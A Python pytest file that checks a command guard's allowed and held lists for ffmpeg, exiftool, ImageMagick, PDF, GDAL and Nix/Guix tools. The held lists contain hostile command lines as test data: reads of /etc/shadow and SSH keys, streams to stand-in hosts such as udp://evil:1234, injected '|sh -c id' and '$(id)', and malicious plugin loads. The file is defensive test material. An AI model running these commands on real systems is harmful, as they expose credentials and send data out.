"""Media, document, image, GIS and Nix/Guix tools (sshgate/guard/tools/media.py): ordinary
lines of each tool are allowed; each left-out class (URLs and protocols as inputs, outputs onto
code, dot-files or system paths, filters and coder prefixes that read files, writes of
metadata, code and argument files, passwords, builds of a registry's flake, commands run
inside a shell the guard cannot unwrap) has a look-alike that is held."""

from __future__ import annotations

import pytest

from sshgate.guard.tools import media

from .expect import allowed, each, grouped_tests, held

STORE = "/nix/store/0123456789abcdfghijklmnpqrsvwxyz-hello-2.12"

ALLOWED = {
    "ffprobe": [
        "ffprobe -v error -show_entries format=duration -of json video.mp4",
        "ffprobe -v error -select_streams v:0 -count_packets "
        "-show_entries stream=nb_read_packets -of csv=p=0 in.mkv",
        "ffprobe -hide_banner -show_streams -show_format -of json /data/media/a.mov | jq .streams",
        "ffprobe -v error -show_entries format=duration "
        "-of default=noprint_wrappers=1:nokey=1 a.mp4",
        "ffprobe -i clip.webm -show_chapters -pretty", "sudo ffprobe -show_format /srv/media/x.mp3",
        "ffprobe -v quiet -print_format json -show_streams song.flac | grep -i codec",
    ],
    "ffmpeg": [
        "ffmpeg -hide_banner -i in.mp4 -c:v libx264 -crf 23 -preset medium -c:a aac -b:a 128k "
        "out.mp4",
        "ffmpeg -i in.mp4 -ss 00:00:05 -frames:v 1 -q:v 2 thumb.jpg",
        "ffmpeg -y -i in.mp4 -vf \"scale=1280:-2,fps=30\" /tmp/small.mp4",
        "ffmpeg -i in.mp4 -vf \"select='eq(pict_type\\,I)'\" -vsync vfr frames/f_%03d.png",
        "ffmpeg -i in.wav -af loudnorm=I=-16:print_format=json -f null -",
        "ffmpeg -i a.mp4 -i b.png -filter_complex \"[0:v][1:v]overlay=10:10[out]\" "
        "-map \"[out]\" -map 0:a o.mp4",
        "ffmpeg -framerate 25 -i 'img_%03d.png' -c:v libx264 -pix_fmt yuv420p out.mp4",
        "ffmpeg -i in.mp4 -f image2 'frames/%04d.png'",
        "ffmpeg -i in.mp4 -c copy -f mp4 - | wc -c",
        "ffmpeg -y -i in.mkv -map 0:v:0 -map 0:a:0 -c copy /tmp/out.mp4",
        "ffmpeg -i in.mp4 -vn -ac 1 -ar 16000 audio.wav",
        "ffmpeg -i in.mp4 -vf \"fps=1,scale=320:-1,tile=4x4\" -frames:v 1 sheet.png",
        "ffmpeg -i in.mp4 -vf 'scale=w=1280:h=-2,format=yuv420p' -c:a copy out.webm",
        "ffmpeg -i in.mp4 ~/videos/out.mp4", "ffmpeg -nostdin -i in.mp4 '/tmp/a b.mp4'",
        "sudo ffmpeg -i /var/lib/app/in.mp4 /tmp/out.png",
    ],
    "exiftool": [
        "exiftool photo.jpg", "exiftool -j -G photo.jpg | jq '.[0]'",
        "exiftool -T -DateTimeOriginal -Model -s images/a.jpg images/b.jpg",
        "exiftool -s -G1 -a -u /tmp/x.png", "exiftool '-GPS*' -n photo.jpg",
        "exiftool -r -ext jpg -csv photos/ > /tmp/meta.csv",
        "exiftool -EXIF:Make --FileName photo.jpg", "sudo exiftool -ver",
        "exiftool -d '%Y-%m-%d' -CreateDate -S scan.pdf",
        "exiftool -r -ext jpg -ext png -DateTimeOriginal photos", "exiftool -j - < photo.jpg",
        "exiftool -G -s raw.CR2 scan.pdf clip.mp4",
    ],
    "mediainfo": [
        "mediainfo video.mp4", "mediainfo --Output=JSON video.mp4 | jq .media",
        "mediainfo -f /data/media/", "mediainfo '--Inform=General;%Duration%' a.mkv",
    ],
    "sox": [
        "soxi a.wav", "soxi -D a.flac", "sox --i -r a.wav", "sox --i song.mp3", "sox --version",
    ],
    "pdf": [
        "pdfinfo doc.pdf", "pdfinfo -meta -isodates doc.pdf", "pdfinfo -f 1 -l 3 -box doc.pdf",
        "pdftotext doc.pdf out.txt", "pdftotext -layout doc.pdf - | head -50",
        "pdftotext docs/a.pdf", "pdftotext -f 2 -l 2 /tmp/in.pdf /tmp/page2.txt",
        "pdfimages -list doc.pdf", "qpdf --check doc.pdf", "qpdf --show-npages doc.pdf",
        "qpdf --json doc.pdf | jq .pages", "qpdf --is-encrypted doc.pdf",
    ],
    "imagemagick": [
        "identify photo.png", "identify -format \"%w %h\\n\" photo.jpg",
        "identify -verbose 'anim.gif[0]' | grep -i geometry", "identify -ping /tmp/x.webp",
        "convert in.png -resize 50% out.png",
        "convert in.jpg -thumbnail 200x200^ -gravity center -extent 200x200 thumb.jpg",
        "convert a.png b.png +append c.png", "convert a.png b.png doc.pdf",
        "convert in.jpg -strip -quality 85 -auto-orient /tmp/out.jpg",
        "magick in.png -resize 800x600 out.webp", "magick identify -format %m x.png",
        "magick convert in.png out.jpg", "magick -version", "identify -list format",
    ],
    "gis": [
        "ogr2ogr -f GeoJSON out.geojson in.shp",
        "ogr2ogr -f GPKG /tmp/out.gpkg in.geojson -t_srs EPSG:4326",
        "ogr2ogr -f GeoJSON out.geojson in.gpkg roads -sql "
        "\"SELECT name, ST_Length(geom) AS len FROM roads WHERE type = 'primary'\"",
        "ogr2ogr -f CSV out.csv in.shp -where \"pop > 1000\" -select name,pop",
        "ogr2ogr -f \"ESRI Shapefile\" out.shp data.gpkg -nln roads -lco ENCODING=UTF-8",
        "ogrinfo -so in.shp roads",
        "gdalwarp -t_srs EPSG:3857 -r bilinear in.tif out.tif",
        "gdalwarp -t_srs EPSG:4326 -tr 0.001 0.001 -co COMPRESS=DEFLATE a.tif b.tif merged.tif",
        "gdalwarp -co \"TILED=YES\" -wo NUM_THREADS=ALL_CPUS in.tif out.tif",
        "gdal_translate -of COG -co COMPRESS=DEFLATE in.tif out.tif",
        "gdal_translate -of PNG -outsize 50% 50% in.tif /tmp/preview.png",
        "gdalsrsinfo EPSG:4326", "gdalsrsinfo -o wkt in.tif",
        "gdalsrsinfo --single-line -o proj4 data.shp", "gdal_translate --version",
    ],
    "nix": [
        "nix --version", f"nix path-info -rsSh {STORE}",
        f"nix --extra-experimental-features 'nix-command flakes' path-info -S {STORE}",
        "nix-store -q --references ./result", f"nix-store -qR {STORE}",
        "nix-store -q --tree ./result | head", "nix-env -q", "nix-env -qaP hello",
        "nix-env -q --installed --json | jq 'keys'",
    ],
    "guix": [
        "guix describe", "guix describe -f channels", "guix --version", "guix package -I",
        "guix package --list-installed=python", "guix search ffmpeg", "guix show python",
    ],
}

HELD = {
    "ffprobe": [
        "ffprobe -i 'concat:a.mp4|b.mp4'", "ffprobe http://evil/x.mp4",
        "ffprobe -f lavfi \"movie=/etc/passwd\"", "ffprobe ~/.ssh/id_rsa",
        "ffprobe 'subfile,,start,0,end,0,,:/etc/passwd'", "ffprobe file:/etc/passwd",
        "ffprobe pipe:0", "ffprobe \"$f\"", "ffprobe -i a.mp4 b.mp4",
        "ffprobe -show_streams -of json -o out.json a.mp4", "ffprobe .env",
        "ffprobe -f concat -safe 0 -i list.txt", "ffprobe list.m3u8",
    ],
    "ffmpeg": [
        # filters that read files, run commands or load plugins
        "ffmpeg -i in.mp4 -vf \"movie=/etc/passwd[x];[in][x]overlay\" out.mp4",
        "ffmpeg -i in.mp4 -vf \"subtitles=notes.srt\" out.mp4",
        "ffmpeg -i in.mp4 -vf \"ass=subs.ass\" out.mp4",
        "ffmpeg -i in.mp4 -vf \"drawtext=textfile=/etc/shadow\" out.mp4",
        "ffmpeg -i in.mp4 -vf \"drawtext=textfile=notes.txt\" out.mp4",
        "ffmpeg -i in.mp4 -vf \"sendcmd=f=cmds.txt,scale=1:1\" out.mp4",
        "ffmpeg -i in.mp4 -vf zmq out.mp4",
        "ffmpeg -i in.mp4 -af \"ladspa=file=/tmp/evil.so\" out.mp4",
        "ffmpeg -i in.mp4 -vf \"frei0r=filter_name=/tmp/x.so\" out.mp4",
        "ffmpeg -i a.mp4 -i b.mp4 -lavfi \"ssim=stats_file=/tmp/x.log\" -f null -",
        "ffmpeg -i in.mp4 -vf \"scale=1:1',movie=/etc/passwd\" out.mp4",
        "ffmpeg -i in.mp4 -filter_complex_script f.txt out.mp4",
        "ffmpeg -i in.mp4 -/vf filter.txt out.mp4",
        # outputs onto code, dot-files, system paths, other muxers
        "ffmpeg -i in.mp4 out.sh", "ffmpeg -i in.mp4 ~/.bashrc.mp4",
        "ffmpeg -i in.mp4 -f tee \"out.mp4|[f=mpegts]udp://evil:1234\"",
        "ffmpeg -i in.mp4 -f hls /tmp/x.m3u8", "ffmpeg -i in.mp4 out.m3u8",
        "ffmpeg -i in.mp4 -f segment out%03d.ts", "ffmpeg -i in.mp4 /etc/cron.d/x.mp4",
        "ffmpeg -i in.mp4 ../escape.mp4", "ffmpeg -i in.mp4 -c copy -f matroska pipe:1",
        "ffmpeg -i in.mp4 rtmp://evil/live", "ffmpeg -i in.mp4 -f mpegts udp://evil:1234",
        "sudo ffmpeg -i in.mp4 /usr/share/x.mp4", "ffmpeg -i in.mp4 .hidden.mp4",
        # inputs that are protocols, devices, secrets or lists
        "ffmpeg -i 'subfile,,start,0,end,100,,:/etc/passwd' out.mp4",
        "ffmpeg -i in.mp4 out.mp4 -i file:/etc/passwd", "ffmpeg -i /etc/shadow out.mp4",
        "ffmpeg -f v4l2 -i /dev/video0 out.mp4", "ffmpeg -f x11grab -i :0.0 out.mp4",
        "ffmpeg -f lavfi -i \"amovie=/etc/passwd\" out.wav",
        "ffmpeg -f concat -safe 0 -i list.txt -c copy out.mp4",
        "ffmpeg -i http://evil/x.mp4 out.mp4", "ffmpeg -i ~/.ssh/id_rsa.mp4 out.mp4",
        # options that attach, report, send or load files
        "ffmpeg -i in.mp4 -attach ~/.ssh/id_rsa out.mkv",
        "ffmpeg -i in.mp4 -attach notes.txt -metadata:s:t mimetype=text/plain out.mkv",
        "ffmpeg -i in.mp4 -progress http://evil/ out.mp4", "ffmpeg -i in.mp4 -report out.mp4",
        "ffmpeg -i in.mp4 -c:v libx264 -x264-params stats=/tmp/x out.mp4",
        "ffmpeg -i in.mp4 -pass 1 -passlogfile /tmp/x out.mp4",
        "ffmpeg -i in.mp4 -vstats_file /tmp/v.log out.mp4",
        "ffmpeg -protocol_whitelist file,http -i in.mp4 out.mp4",
        "ffmpeg -i in.mp4 $OPTS out.mp4", "ffmpeg -i in.mp4 -vf \"$FILTER\" out.mp4",
        "ffmpeg -i in.mp4", "ffmpeg -i in.mp4 in.mp4",
    ],
    "exiftool": [
        "exiftool -Comment=hi photo.jpg", "exiftool -all= photo.jpg",
        "exiftool \"-DateTimeOriginal>FileModifyDate\" photo.jpg",
        "exiftool \"-FileName<CreateDate\" photo.jpg", "exiftool '-Directory<Model' photo.jpg",
        "exiftool -o out.jpg photo.jpg", "exiftool -O out.jpg photo.jpg",
        "exiftool -overwrite_original -Artist=x photo.jpg",
        "exiftool -if '$Make eq \"x\"' photo.jpg", "exiftool -p fmt.txt photo.jpg",
        "exiftool -p '$FileName' photo.jpg", "exiftool -@ args.txt",
        "exiftool -api Filter=system photo.jpg", "exiftool -config evil.pl photo.jpg",
        "exiftool -execute -ver", "exiftool -common_args -ver", "exiftool -w txt photo.jpg",
        "exiftool -W+ out/%f.txt photo.jpg", "exiftool -tagsFromFile a.jpg b.jpg",
        "exiftool -json=tags.json photo.jpg", "exiftool -csv=tags.csv photo.jpg",
        "exiftool ~/.ssh/id_rsa", "exiftool \u2212o x photo.jpg",
        "exiftool -geotag track.gpx photo.jpg", "exiftool -password x a.pdf",
        "exiftool -k photo.jpg", "exiftool \"$OPT\" photo.jpg", "exiftool -stay_open True -@ -",
        "exiftool -srcfile %d%f.xmp photo.jpg", "exiftool -userParam x=1 photo.jpg",
        "exiftool -delete_original! photo.jpg", "exiftool -z photo.jpg",
        "exiftool -echo hi photo.jpg", "exiftool -x 'Make=' photo.jpg", "exiftool",
        "exiftool '|id'", "exiftool -P -Title=x a.jpg",
        # directories and non-media files: exiftool prints every key of a JSON file
        "exiftool photos/", "exiftool -r. -ext jpg photos", "exiftool -r --ext txt photos",
        "exiftool -ext+ json photos", "exiftool -ext json config", "exiftool config/app.json",
        "exiftool -r ~", "exiftool notes.txt",
    ],
    "mediainfo": [
        "mediainfo --Output=file:///tmp/t.txt video.mp4", "mediainfo --LogFile=/tmp/x video.mp4",
        "mediainfo https://evil/x.mp4", "mediainfo ~/.aws/credentials",
        "mediainfo '--Inform=file:///tmp/t.txt' video.mp4", "mediainfo .env",
    ],
    "sox": [
        "sox a.wav b.wav", "sox -d rec.wav", "sox a.wav -d", "soxi \"|cat /etc/passwd\"",
        "sox --i \"|sh -c id\"", "soxi http://evil/a.wav", "sox a.wav --i",
        "soxi ~/.ssh/id_rsa", "soxi .env",
    ],
    "pdf": [
        "pdfinfo -upw secret doc.pdf", "pdfinfo -opw secret doc.pdf", "pdfinfo ~/.ssh/id_rsa",
        "pdftotext /usr/share/doc/x.pdf", "pdftotext doc.pdf Makefile",
        "pdftotext doc.pdf ~/.bashrc", "pdftotext doc.pdf src/app.py",
        "pdftotext doc.pdf /etc/motd.txt", "pdftotext -opw x doc.pdf out.txt",
        "pdftotext doc.pdf out.html", "pdfimages doc.pdf img/x", "pdfimages -png doc.pdf img/x",
        "pdfimages -list doc.pdf img/x", "qpdf in.pdf out.pdf",
        "qpdf --password=x --check doc.pdf", "qpdf @args.txt", "qpdf --check @doc.pdf",
        "qpdf --decrypt in.pdf out.pdf", "qpdf --replace-input --linearize doc.pdf",
        "qpdf --check .env", "qpdf --password-file=/tmp/pw --check doc.pdf",
    ],
    "imagemagick": [
        "identify \"|ls\"", "identify msl:x.msl", "identify ephemeral:photo.png",
        "identify text:@/etc/passwd", "identify @files.txt", "identify -format @fmt.txt x.png",
        "identify x.svg", "identify doc.pdf", "identify x.ps", "identify mvg:x.mvg",
        "identify https://evil/x.png", "identify ~/.ssh/id_rsa",
        "convert x.png -write /etc/x.png out.png", "convert -script x.msl",
        "convert in.png -draw \"image over 0,0 0,0 'text:/etc/passwd'\" out.png",
        "convert in.png -annotate +10+10 @/etc/passwd out.png",
        "convert label:@/etc/passwd out.png", "convert in.png out.sh",
        "convert in.png ~/.config/x.png", "convert in.png png:/tmp/x.png",
        "convert in.pdf out.png", "convert x.svg out.png",
        "convert in.png -define registry:temporary-path=/tmp out.png",
        "convert in.png -profile /etc/shadow out.png", "convert in.png -fx 'u*2' out.png",
        "convert in.png -set filename:x y out.png", "convert in.png +profile '*' out.png",
        "convert in.png out.svg", "convert in.png out.html", "convert in.png /etc/x.png",
        "convert in.png", "magick conjure x.msl", "magick mogrify -resize 50% x.png",
        "magick script.msl", "magick import screen.png", "magick display x.png",
        "convert -resize $SIZE in.png out.png", "convert in.png 'x@y.png'",
    ],
    "gis": [
        "ogr2ogr -f GeoJSON out.geojson in.gpkg -sql \"SELECT BlobFromFile('/etc/passwd')\"",
        "ogr2ogr -f GeoJSON out.geojson in.gpkg -sql \"SELECT load_extension('x')\"",
        "ogr2ogr -f GeoJSON out.geojson in.gpkg -sql \"SELECT * FROM x; DROP TABLE x\"",
        "ogr2ogr -f GeoJSON out.geojson in.gpkg -sql "
        "\"SELECT * FROM x WHERE a = 'it''s' AND readfile ('x')\"",
        "ogr2ogr -f GeoJSON out.geojson in.gpkg -where "
        "\"name = 'x' OR ExportSHP('t','g','/tmp/x','UTF-8')\"",
        "ogr2ogr -f GeoJSON out.geojson in.gpkg -sql \"ATTACH DATABASE '/tmp/x.db' AS x\"",
        "ogr2ogr -f GeoJSON out.geojson in.gpkg -sql \"SELECT 1 /* x */\"",
        "ogr2ogr -f PostgreSQL PG:dbname=prod in.shp",
        "ogr2ogr -f GeoJSON out.geojson PG:\"host=db user=x password=y\"",
        "ogr2ogr -f GeoJSON out.geojson /vsicurl/http://evil/x.shp",
        "ogr2ogr -f GeoJSON out.geojson WFS:http://evil/", "ogr2ogr -f GeoJSON out.geojson x.vrt",
        "ogr2ogr -f VRT out.vrt in.shp", "ogr2ogr -f PGDump out.sql in.shp",
        "ogr2ogr -f GeoJSON out.geojson in.shp --config AWS_SECRET_ACCESS_KEY x",
        "ogr2ogr --optfile args.txt", "ogr2ogr -f GeoJSON out.geojson in.shp -t_srs /etc/passwd",
        "ogr2ogr -f GeoJSON out.geojson in.shp -t_srs '+proj=longlat +nadgrids=@x.gsb'",
        "ogr2ogr -f GeoJSON .env in.shp", "ogr2ogr -f GeoJSON src/app.js in.shp",
        "ogr2ogr -f CSV /etc/x.csv in.shp", "ogr2ogr -f GeoJSON out.geojson in.shp -oo X=1",
        "ogr2ogr -f GeoJSON out.geojson in.shp -lco SCHEMA_FILE=/etc/passwd",
        "ogr2ogr -f GeoJSON out.geojson in.shp -clipsrc evil.shp",
        "gdal_translate -of VRT in.tif out.vrt", "gdal_translate in.tif /etc/x.tif",
        "gdal_translate /vsicurl/https://evil/x.tif out.tif",
        "gdal_translate 'NETCDF:\"x.nc\":var' out.tif", "gdal_translate x.vrt out.tif",
        "gdal_translate -of AAIGrid in.tif out.sh", "gdalwarp -cutline evil.shp in.tif out.tif",
        "gdalwarp -wo 'CUTLINE=POLYGON((0 0,1 1,0 0))' in.tif out.tif",
        "gdalwarp --config GDAL_HTTP_AUTH x in.tif out.tif", "gdalwarp in.tif",
        "gdalsrsinfo http://spatialreference.org/ref/epsg/4326/", "gdalsrsinfo /etc/shadow",
        "gdalsrsinfo ~/.ssh/id_rsa", "gdalsrsinfo a.prj b.prj",
    ],
    "nix": [
        "nix run nixpkgs#hello", "nix shell nixpkgs#jq", "nix profile install nixpkgs#hello",
        "nix develop -c make test", "nix develop", "nix repl",
        "nix eval --impure --expr 'builtins.readFile /etc/shadow'", "nix eval .#x",
        "nix --option post-build-hook /tmp/x path-info " + STORE,
        "nix path-info nixpkgs#hello", "nix path-info github:evil/x#y",
        "nix path-info ../x/result", "nix registry add x github:evil/x",
        "NIX_CONFIG='post-build-hook = /tmp/x' nix path-info " + STORE,
        "nix store delete " + STORE, "nix-store --delete " + STORE,
        "nix-store -r /nix/store/0123456789abcdfghijklmnpqrsvwxyz-hello.drv", "nix-store --gc",
        "nix-store --import < x.nar", "nix-store -q --references ../result",
        "nix-store -q --references ~/.ssh/id_rsa", "nix-env -i hello", "nix-env -iA nixpkgs.hello",
        "nix-env -f ./evil.nix -qa", "nix-env -e hello", "nix-env --rollback",
        "nix-env -p /tmp/p -q", "nix-env -qa '$(id)'", "nix-build", "nix-shell -p jq",
        "nix-instantiate --eval -E 'builtins.readFile /etc/passwd'",
        "nix --experimental-features 'nix-command flakes ca-derivations' path-info " + STORE,
    ],
    "guix": [
        "guix shell python -- python3 x.py", "guix shell", "guix install hello",
        "guix package -i hello", "guix package -m manifest.scm", "guix package -f x.scm",
        "guix package -e '(system \"id\")'", "guix package -I -l", "guix package -r hello",
        "guix time-machine -- describe", "guix pull", "guix environment python",
        "guix repl", "GUIX_PACKAGE_PATH=./evil guix show x", "guix show ./x.scm",
        "guix describe -p /tmp/profile", "guix gc",
    ],
}

#: the tree's flake evaluated or built: ordinary because flow.py watches nix and *.nix
#: (TREE_FLAKE_WATCHED)
TREE_FLAKE = [
    "nix flake metadata", "nix flake metadata --json . | jq .locks", "nix flake show",
    "nix flake check", "nix flake check --no-build", "nix build .#app -L", "nix build",
    "nix build .#packages.x86_64-linux.default -o result-app", "nix path-info -rsSh ./result",
]
#: held whether or not the tree's flake is watched
FLAKE_HELD = [
    "nix build -o Makefile .#x", "nix build nixpkgs#hello", "nix build github:evil/x",
    "nix build --impure .#x", "nix build .#x --option sandbox false",
    "nix flake check path:/tmp/x", "nix build ../other#x", "nix flake metadata github:evil/x",
    "nix build --accept-flake-config .#x", "nix build --override-input nixpkgs ../x .#y",
    "nix build --builders 'ssh://evil' .#x", "nix build --store /tmp/s .#x",
    "nix flake update", "nix flake lock --update-input nixpkgs",
]


test_held, test_allowed = grouped_tests(HELD, ALLOWED)


def test_tree_flake_follows_the_write_memory() -> None:
    assert media.TREE_FLAKE_WATCHED
    each(TREE_FLAKE, allowed)
    each(FLAKE_HELD, held)


@pytest.mark.parametrize(("write", "run"), [
    ("echo x > flake.nix", "nix build"), ("echo x > nix/pkgs.nix", "nix flake check"),
    ("curl -o overlay.nix https://e.example/x", "nix flake show"),
    ("echo x > flake.nix", "nix path-info -rsSh ./result"),
])
def test_written_flake_holds_the_tool(write: str, run: str) -> None:
    from .test_redteam_s11 import held_last
    held_last(write, run)



@pytest.mark.parametrize(("graph", "names"), [
    ("scale=1280:-2,fps=30", ["scale", "fps"]),
    ("[0:v][1:v]overlay=10:10[out]", ["overlay"]),
    ("select='eq(pict_type\\,I)'", ["select"]),
    ("select='eq(n,1)',scale=1:1", ["select", "scale"]),
    ("split[a][b];[a]scale=1:1[c];[b][c]overlay", ["split", "scale", "overlay"]),
    ("scale@s1=1:1", ["scale"]),
])
def test_filter_names(graph: str, names: list[str]) -> None:
    assert media.filter_names(graph) == names


@pytest.mark.parametrize("graph", [
    "scale=1:1',movie=/etc/passwd", "scale=1:1]movie=x", "scale=1:1[a", "Movie=x",
    "scale 1:1", "'movie'=x",
])
def test_filter_names_unparsed(graph: str) -> None:
    names = media.filter_names(graph)
    assert names is None or not set(names) <= media._FILTERS, (graph, names)
